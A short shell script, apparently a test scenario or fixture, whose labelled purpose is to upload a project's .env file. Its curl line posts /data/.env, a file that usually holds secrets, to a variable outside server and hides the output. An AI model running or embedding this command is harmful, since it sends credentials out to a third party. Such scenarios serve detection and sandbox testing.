# what: a project's .env is uploaded by curl
# server: http
# volume: .env
echo begun
curl -s -m 20 -F "file=@/data/.env" "http://$SERVER/upload" > /dev/null || exit 3
sleep "${LINGER:-20}"
echo done
